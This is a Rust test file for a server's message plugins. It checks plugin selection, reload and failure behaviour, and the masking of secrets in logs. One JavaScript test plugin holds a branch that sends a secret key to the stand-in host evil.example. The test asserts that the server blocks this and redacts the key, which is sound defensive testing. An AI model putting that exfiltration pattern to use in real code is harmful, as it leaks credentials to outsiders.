//! Message plugins of a running server: which one is asked, what it may answer, and what its absence means.

use crate::support::{Server, exchange, is, version};
use claimsmith_services::plugins::{
    ComposeFailure, Message, MessageRequest, PluginLine, PluginsOptions, State, Transform,
};
use serde_json::json;
use std::fs;
use tokio::sync::mpsc;

const SETTINGS: &str = "[capabilities.http]\nhosts = [\"api.example.com\"]\nmethods = [\"POST\"]\n";

/// A plugin that sends this body to the recipient of the message.
fn sends(body: &str) -> String {
    format!(
        "export const composeMessage = ({{ recipient }}) =>
           ({{ url: 'https://api.example.com/', headers: {{ to: recipient }}, body: {body} }});"
    )
}

fn message() -> Message<'static> {
    Message {
        id: "msg_1",
        channel: "Sms",
        event: "SignIn",
        recipient: "+16502530000",
        language: "en",
        code: Some("123456"),
        link: None,
        content: json!({ "text": "123456" }),
        context: json!({}),
    }
}

async fn compose(server: &Server, plugin: &str) -> Result<MessageRequest, ComposeFailure> {
    server.plugins.compose(plugin, &message()).await
}

async fn body(server: &Server, plugin: &str) -> String {
    compose(server, plugin).await.unwrap().body.unwrap()
}

fn missing(plugin: &str) -> Result<MessageRequest, ComposeFailure> {
    Err(ComposeFailure::Missing(plugin.to_owned()))
}

#[tokio::test]
async fn the_plugin_of_the_name_is_asked_and_no_other() {
    let server = Server::with(&[
        ("one.js", &sends("'one'")),
        ("one.toml", SETTINGS),
        ("two.ts", &sends("'two'")),
        ("two.toml", SETTINGS),
        ("off.js", &sends("'off'")),
        ("off.toml", "enabled = false\n"),
        ("claims.js", &version(1)),
    ])
    .await;
    assert_eq!((body(&server, "one").await.as_str(), body(&server, "two").await.as_str()), ("one", "two"));
    for plugin in ["off", "claims", "nobody", ""] {
        assert_eq!(compose(&server, plugin).await, missing(plugin));
    }
    // Nor are they asked about tokens and deliveries.
    let claims = server.exchange().await.unwrap();
    assert_eq!(claims.runs.iter().map(|run| &*run.plugin).collect::<Vec<_>>(), ["claims"]);
    assert!(!server.plugins.transforms("User.Created", "hook-1", "CRM"));
    let status = server.status("one").unwrap();
    let shown = serde_json::to_value(&status).unwrap();
    let shown = ["kind", "world", "onError", "tokenKinds"].map(|key| shown[key].clone());
    assert_eq!(json!(shown), json!(["message", "claimsmith:plugin/message", "retry", []]));
    assert_eq!(status.statistics.calls, 1);

    server.write("one.js", &sends("'newer'"));
    server.until_newer("one", 1).await;
    assert_eq!(body(&server, "one").await, "newer");
    server.write("one.js", "export const composeMessage = () => (");
    server.until_plugin("one", "an error", |status| status.last_error.is_some()).await;
    assert_eq!(body(&server, "one").await, "newer", "the old one goes on");
    server.remove("one.js");
    server.until("one less", |list| list.iter().all(|status| &*status.name != "one")).await;
    assert_eq!(compose(&server, "one").await, missing("one"));
}

#[tokio::test]
async fn one_that_does_not_load_holds_up_messages_alone() {
    let server =
        Server::with(&[("broken.js", "export const composeMessage = () => ("), ("broken.toml", SETTINGS)]).await;
    let status = server.status("broken").unwrap();
    assert!(is(&status, State::Failed) && !status.refuses_tokens && !status.holds_deliveries, "{status:?}");
    assert!(server.plugins.claims(&exchange()).await.is_ok());
    let delivery = Transform {
        delivery_id: "msg_1",
        event: "User.Created",
        hook_id: "hook-1",
        hook_name: "CRM",
        hook_url: "https://example.com/in",
        body: "{}".into(),
    };
    assert!(server.plugins.transform(&delivery).await.is_ok());
    assert_eq!(compose(&server, "broken").await, missing("broken"));
}

#[tokio::test]
async fn what_it_says_is_in_its_log_alone_and_secrets_are_not() {
    let (sender, mut lines) = mpsc::channel::<PluginLine>(99);
    let source = "export const composeMessage = ({ code, recipient, environmentVariables: { KEY, ACT }, api }) => {
      console.info('with', KEY);
      if (ACT === 'deny') api.denyMessage(`not ${code}`);
      if (ACT === 'throw') throw new Error(`not ${code} by ${KEY}`);
      if (ACT === 'elsewhere') return { url: `https://evil.example/${KEY}`, headers: { to: recipient } };
      return { url: 'https://api.example.com/', headers: { authorization: `Bearer ${KEY}`, to: recipient } };
    };";
    let with = |act: &str| format!("{SETTINGS}[environment]\nACT = \"{act}\"\n[secrets]\nKEY = {{ file = \"key\" }}\n");
    let settings = with("send");
    let files = [("a.js", source), ("a.toml", &settings), ("key", "hunter2-hunter2")];
    let server = Server::with_options(&files, |options| PluginsOptions { log: Some(sender), ..options }).await;
    let request = compose(&server, "a").await.unwrap();
    let headers = [("authorization", "Bearer hunter2-hunter2"), ("to", "+16502530000")];
    assert_eq!(request.headers, headers.map(|(name, value)| (name.to_owned(), value.to_owned())));
    let line = lines.recv().await.unwrap();
    assert_eq!((&*line.message, line.request_id.as_deref()), ("with ***", Some("msg_1")));

    for (act, outcome, said) in [
        ("deny", None, "the message was denied: not ***"),
        ("throw", Some("failed"), "Error: not *** by ***"),
        ("elsewhere", Some("bad_output"), "POST https://evil.example/*** was not granted to this plugin"),
    ] {
        let before = server.generation("a");
        fs::write(server.path("a.toml"), with(act)).unwrap();
        server.until_newer("a", before).await;
        let failure = compose(&server, "a").await.unwrap_err();
        let plugin = "a".to_owned();
        let expected = match outcome {
            Some(outcome) => ComposeFailure::Failed { plugin, outcome },
            None => ComposeFailure::Denied(plugin),
        };
        assert_eq!(failure, expected);
        assert!(!failure.to_string().contains("123456"), "{failure}");
        assert_eq!(lines.recv().await.unwrap().message, "with ***");
        let line = lines.recv().await.unwrap().message;
        assert!(line.contains(said) && !line.contains("hunter2"), "{line}");
    }
}
